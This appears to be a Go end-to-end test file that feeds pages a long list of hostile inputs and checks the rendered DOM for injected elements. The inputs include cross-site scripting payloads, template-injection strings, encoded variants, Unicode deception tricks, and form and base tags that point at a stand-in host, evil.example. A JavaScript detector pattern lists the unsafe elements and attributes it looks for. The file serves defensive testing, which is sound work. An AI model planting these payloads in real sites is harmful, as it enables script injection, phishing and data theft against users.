package e2e

import "strings"

// hostileTexts break out of a careless page: what would run is put into everything that it has to break out of first, and with it stand
// texts that mislead people, stretch a page, or mean something to whatever reads them.
func hostileTexts() []string {
	var all []string
	for _, way := range []string{"", `">`, `'>`, `</title>`, `</textarea></select>`, `-->`, `]]></script></noscript></style>`} {
		for _, runs := range []string{
			`<script>alert(1)</script>`, `<img src=/x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`,
			`<details open ontoggle=alert(1)>`, `<a href=javascript:alert(1) id=x autofocus onfocus=alert(1)>x</a>`,
		} {
			all = append(all, way+runs)
		}
	}
	return append(all,
		// attributes
		`" autofocus onfocus="alert(1)`, `' autofocus onfocus='alert(1)`, `x onmouseover=alert(1) `, `" style="background:url(//evil.example/a)`, `" formaction="javascript:alert(1)`,
		`" srcdoc="<script>alert(1)</script>`, `"><input type=hidden name=nonce value=x>`, `"><button formaction=//evil.example>Pay</button>`,
		// elements that lead away or load
		`<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example/">`, `<link rel=stylesheet href=//evil.example/a.css>`,
		`<style>@import "//evil.example/a.css";*{display:none}</style>`, `<object data=//evil.example/a></object>`, `<embed src=//evil.example/a>`, `<form action=//evil.example/><button>Pay</button></form>`,
		`<video autoplay src=//evil.example/a onerror=alert(1)></video>`, `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`, `<svg><image href=//evil.example/a.png /></svg>`,
		`<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"/></svg>`, `<template><script>alert(1)</script></template>`,
		// addresses
		`javascript:alert(1)`, "java\tscript:alert(1)", "\x01javascript:alert(1)", `data:text/html,<script>alert(1)</script>`, `vbscript:alert(1)`, `//evil.example/a`, `https://evil.example/a`, `blob:https://evil.example/a`,
		// templates and numbers of characters
		`{{.}}`, `{{template "layout" .}}`, `${alert(1)}`, `#{alert(1)}`, `<%= alert(1) %>`, `{% raw %}`, `%d %s %[2]d %!s(MISSING)`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;`,
		`\u003cscript\u003ealert(1)\u003c/script\u003e`, `%3Cscript%3Ealert(1)%3C/script%3E`, `＜script＞alert(1)＜/script＞`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
		// JSON, JavaScript and comments
		`"};alert(1);//`, `';alert(1);//`, `\";alert(1);//`, "\u2028alert(1)", `"]}</script><script>alert(1)</script>`, `<!--<script>`, `--!><img src=/x onerror=alert(1)>`, `<![CDATA[<script>alert(1)</script>]]>`, `*/alert(1)/*`,
		// style
		`red;}*{display:none}`, `expression(alert(1))`, `url(//evil.example/a)`,
		// what misleads the eye
		"\u202eelpmaxe.live\u202c paid", "\u2066\u2067\u2068 isolates without an end", "zero\u200bwidth\u200djoiner\ufeff", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘", strings.Repeat("\u202e", 3),
		// long
		strings.Repeat("W", 255), strings.Repeat("<b>", 85), strings.Repeat("\U0001f468\u200d\U0001f469\u200d\U0001f467", 20),
	)
}

// intruders lists what no page of ours consists of: elements and attributes that run, load or lead elsewhere.
const intruders = `(() => {
	const bad = [];
	for (const e of document.querySelectorAll("*")) {
		if (e.matches("iframe, object, embed, base, video, audio, source, template, math, image, use, link:not([rel=icon], [rel=stylesheet]), style:not([nonce])")) bad.push(e.outerHTML.slice(0, 80));
		if (e.matches("script[src]")) bad.push(e.outerHTML.slice(0, 80));
		for (const a of e.attributes) {
			if (/^on/i.test(a.name) || a.name === "srcdoc" || a.name === "formaction" || a.name === "style") bad.push(e.localName + " " + a.name);
			if (/^(href|src|action|data|xlink:href)$/.test(a.name) && /^[\s\x00-\x20]*(javascript|data|vbscript|blob):|evil/i.test(a.value) && !e.matches("[href^='https://shop.example/']")) bad.push(e.localName + " " + a.value.slice(0, 60));
		}
	}
	return bad.join(", ");
})()`
